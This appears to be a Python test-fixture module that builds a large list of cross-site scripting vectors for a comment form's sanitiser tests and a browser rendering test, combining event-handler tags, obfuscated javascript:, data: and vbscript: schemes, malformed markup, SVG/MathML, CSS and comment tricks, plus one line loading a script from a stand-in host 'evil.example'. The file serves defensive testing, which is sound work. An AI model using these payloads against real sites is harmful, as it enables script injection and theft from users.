"""XSS vectors generated from the known families, for the comment form tests and the
browser test that renders every one of them (tests/e2e/test_xss_browser.py).

Each payload either calls ``alert`` or sets a global (``window.__xss``), so a browser
test can tell if one ran.
"""

import itertools

PAYLOADS = ["alert(1)", "window.__xss=1"]

EVENT_TAGS = [
    "img src=x", "svg", "body", "iframe", "input autofocus", "details open", "video src=x",
    "audio src=x", "marquee", "div", "a href=http://example.org", "b", "select autofocus",
    "textarea autofocus", "object data=x", "embed src=x", "form", "button", "style",
    "link rel=stylesheet href=x", "table background=x", "math", "frameset", "keygen autofocus",
    "source src=x", "image src=x", "isindex", "meter", "p", "span",
]  # fmt: skip
EVENTS = [
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
]

SCHEMES = [
    "javascript:{p}",
    "JaVaScRiPt:{p}",
    " javascript:{p}",
    "\tjavascript:{p}",
    "java\tscript:{p}",
    "java\nscript:{p}",
    "java\rscript:{p}",
    "\x01javascript:{p}",
    "java\x00script:{p}",
    "&#106;avascript:{p}",
    "&#x6A;avascript:{p}",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{p}",
    "jav&#x09;ascript:{p}",
    "jav&#x0A;ascript:{p}",
    "javascript&colon;{p}",
    "javascript:/*--></a>*/{p}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>{p}</script>",
    "DATA:text/html,<script>{p}</script>",
    " data:image/svg+xml,<svg onload={p}>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "vbs&#99;ript:msgbox(1)",
]
URL_CARRIERS = [
    '<a href="{u}">link</a>',
    "<a href='{u}' title=x>link</a>",
    "<a href={u}>link</a>",
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>go</button></form>',
    '<object data="{u}"></object>',
    '<svg><a xlink:href="{u}"><text y=20>x</text></a></svg>',
    '<math><maction actiontype=statusline xlink:href="{u}">x</maction></math>',
    '<button formaction="{u}">x</button>',
]

BROKEN = [
    "<scr<script>ipt>{p}</script>",
    "<<script>{p}//<</script>",
    "<img src=x onerror={p}//",
    '<a href="http://example.org" onclick={p}',
    '"><script>{p}</script>',
    "'><script>{p}</script>",
    "</textarea><script>{p}</script>",
    "</title><script>{p}</script>",
    "<a href=http://example.org><a href=javascript:{p}>x</a></a>",
    "<a<img src=x onerror={p}>",
    "<img src=x onerror={p}",
    "<img\nsrc=x\nonerror={p}>",
    "<img/src=x/onerror={p}>",
    "<IMG SRC=x OnErRoR={p}>",
    '<a href="http://example.org" title="x" onmouseover="{p}">hover</a>',
    '<a title="x" href="http://example.org"/onmouseover={p}>slash</a>',
    '<a href="http://example.org" title=""onmouseover={p}>x</a>',
    "<a href=`javascript:{p}`>backtick</a>",
    "<div><p><b><i><a href=javascript:{p}>deep</a>",
    "<script src=//evil.example/x.js></script>",
    "<script>{p}",
    "<<a href=javascript:{p}>x</a>",
    '<a href="http://example.org"><script>{p}</script></a>',
    '<noscript><p title="</noscript><img src=x onerror={p}>">',
    "<template><img src=x onerror={p}></template>",
    "<base href=javascript:/><a href=x>x</a>",
    '<meta http-equiv="refresh" content="0;url=javascript:{p}">',
]
SVG_MATHML = [
    "<svg><script>{p}</script></svg>",
    "<svg onload={p}>",
    "<svg><animate onbegin={p} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={p}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{p}'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{p}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={p}>",
    '<math href="javascript:{p}">x</math>',
    "<svg><style><img src=x onerror={p}></style></svg>",
    '<math><mi xlink:href="javascript:{p}">x</mi></math>',
]
CSS = [
    "<style>@import 'javascript:{p}';</style>",
    '<div style="background:url(javascript:{p})">x</div>',
    '<a href="http://example.org" style="behavior:url(x.htc)">x</a>',
    '<a style="width:expression({p})">x</a>',
    "<style>*{{background:url(javascript:{p})}}</style>",
    '<p style="animation-name:x" onanimationstart={p}>x</p>',
]
COMMENTS_CDATA = [
    "<!--<script>{p}</script>-->",
    "<!--><script>{p}</script>-->",
    "<![CDATA[<script>{p}</script>]]>",
    "<!-- --!><img src=x onerror={p}>",
    '<?xml version="1.0"?><script>{p}</script>',
    "<!DOCTYPE html><script>{p}</script>",
    "<!--[if gte IE 4]><script>{p}</script><![endif]-->",
    "<![CDATA[><img src=x onerror={p}>]]>",
]


def vectors() -> list[str]:
    found = []
    for tag, event in itertools.product(EVENT_TAGS, EVENTS[:3]):
        found.append(f"<{tag} {event}={PAYLOADS[len(found) % 2]}>x")
    for event in EVENTS[3:]:
        found.append(f'<img src=x {event}="{PAYLOADS[1]}">')
        found.append(f'<svg {event}="{PAYLOADS[0]}">')
    for scheme, carrier in itertools.product(SCHEMES, URL_CARRIERS[:3]):
        found.append(carrier.format(u=scheme.format(p=PAYLOADS[len(found) % 2])))
    for carrier in URL_CARRIERS[3:]:
        for scheme in SCHEMES[:4]:
            found.append(carrier.format(u=scheme.format(p=PAYLOADS[0])))
    for family in (BROKEN, SVG_MATHML, CSS, COMMENTS_CDATA):
        for template, payload in itertools.product(family, PAYLOADS):
            found.append(template.format(p=payload))
    return list(dict.fromkeys(found))


VECTORS = vectors()
